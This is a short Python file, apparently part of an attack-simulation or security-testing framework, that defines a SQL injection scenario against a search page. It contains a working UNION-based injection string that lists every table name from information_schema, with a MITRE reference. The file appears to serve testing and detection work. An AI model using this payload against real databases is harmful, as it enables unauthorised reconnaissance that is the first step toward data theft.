"""F1: an injected UNION lists the names of all tables: the first step of every tool."""

from backwatch.attack.clients.mysql_connector import MySQLConnector
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import SearchPage


class CatalogueInjected(SearchPage):
    """The search text ends the literal and goes on as a statement."""

    attack = "reads the names of all tables through a UNION that a search field let in"
    reference = "https://attack.mitre.org/techniques/T1213/006/"
    shows = "accounts"
    injected = "x' UNION SELECT 1, table_schema, table_name FROM information_schema.tables -- "
    runs = (Run(MySQLConnector),)
